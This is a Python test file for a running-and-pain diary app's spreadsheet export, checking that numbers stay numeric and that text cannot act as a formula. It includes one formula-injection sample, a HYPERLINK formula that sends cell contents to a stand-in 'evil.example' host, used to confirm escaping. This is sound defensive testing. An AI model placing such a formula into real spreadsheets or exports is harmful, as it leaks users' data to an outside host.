"""Tables for a spreadsheet: numbers stay numbers, and no text is a formula."""

from __future__ import annotations

import csv
import io
import zipfile

import pandas as pd
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from neckload import read_log
from neckload.domain.analysis import Analysis, analyse
from neckload.domain.sharing import PARTS, USUAL
from neckload.domain.tables import Diary
from neckload.ui.report.tables import harmless, pain_csv, runs_csv, tables_zip, weeks_csv
from neckload.ui.text.weeks.finding import NOT_MEDICAL_ADVICE
from tests.builders import after, diary, pain

ALL = frozenset(PARTS)
FORMULA = '=HYPERLINK("http://evil.example?"&A1,"click")'


@pytest.fixture(scope="module")
def analysis() -> Analysis:
    noted = diary([20, 22, 18.5], [100, 110.5, None], [1, None, 3])
    runs = noted.runs.assign(
        title=["Hügel", FORMULA, None], note=[None, "-1+1;=2", None], gear=["belt,earbuds", None, None]
    )
    return analyse(Diary(runs=runs, pain=noted.pain), today=after(3))


def rows(made: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(made.decode("utf-8-sig"))))


def test_the_weeks_hold_totals_and_changes_as_numbers_and_unknown_as_nothing(analysis: Analysis) -> None:
    weeks = rows(weeks_csv(analysis))
    assert [week["week"] for week in weeks] == ["2026-01-05", "2026-01-12", "2026-01-19", "2026-01-26"]
    assert [week["state"] for week in weeks] == ["complete"] * 3 + ["partial"]
    assert [week["duration_min"] for week in weeks] == ["100", "110.5", "", ""]
    assert float(weeks[2]["change_distance"]) == pytest.approx(18.5 / 22 - 1)  # a minus stays a minus
    assert [week["pain_max"] for week in weeks] == ["1", "", "3", ""]


def test_a_formula_in_a_title_or_a_note_is_text(analysis: Analysis) -> None:
    noted = rows(runs_csv(analysis, ALL))[1]
    assert noted["title"] == f"'{FORMULA}"
    assert noted["note"] == "'-1+1;'=2"


@given(st.text())
@example(" =1+1")
def test_no_text_begins_as_a_formula_wherever_a_spreadsheet_cuts_it(text: str) -> None:
    (made,) = harmless(pd.DataFrame({"note": [text]}))["note"]
    assert made.replace("'", "") == text.replace("'", "")
    for cell in made.replace("\t", ";").replace("\r", ";").replace("\n", ";").split(";"):
        assert not cell.lstrip().startswith(("=", "+", "-", "@")), cell


def test_plain_text_and_numbers_are_left_as_they_are() -> None:
    frame = pd.DataFrame({"note": ["easy - very", "a;b", None], "change": [-0.5, 2.0, None]})
    pd.testing.assert_frame_equal(harmless(frame), frame)


def test_runs_and_scores_are_read_back_with_the_same_figures(analysis: Analysis) -> None:
    again = read_log(runs_csv(analysis), name="runs.csv").runs
    assert again["distance_km"].tolist() == [20, 22, 18.5]
    assert again["start"].tolist() == analysis.record.runs["start"].dt.normalize().tolist()
    assert read_log(pain_csv(analysis), name="pain.csv").pain["pain_0_10"].tolist() == [1, 3]


def test_only_the_chosen_parts_are_written(analysis: Analysis) -> None:
    usual = runs_csv(analysis).decode()
    assert "title" not in usual
    assert "note" not in usual
    assert "gear" in usual
    no_volume = tables_zip(analysis, USUAL - {"volume"})
    with zipfile.ZipFile(io.BytesIO(no_volume)) as archive:
        assert archive.namelist() == ["README.txt", "weeks.csv", "pain.csv"]
        assert b"_km" not in archive.read("weeks.csv") + archive.read("README.txt").replace(b"min, distances", b"")


def test_hours_are_written_only_where_they_are_shown() -> None:
    noted = analyse(Diary(pain=pain(("2026-01-06 21:15", 3))), today=after(1))
    assert rows(pain_csv(noted))[0]["when"] == "2026-01-06"
    assert rows(pain_csv(noted, ALL))[0]["when"] == "2026-01-06 21:15"


def test_the_tables_come_with_what_they_mean_and_the_same_diary_gives_the_same_file(analysis: Analysis) -> None:
    made = tables_zip(analysis, ALL)
    assert made == tables_zip(analysis, ALL)
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        assert archive.namelist() == ["README.txt", "weeks.csv", "runs.csv", "pain.csv"]
        read_me = archive.read("README.txt").decode("utf-8-sig")
        columns = archive.read("weeks.csv").decode("utf-8-sig").split("\r\n")[0].split(",")
    assert NOT_MEDICAL_ADVICE in read_me
    assert all(f"  {column}: " in read_me for column in columns)
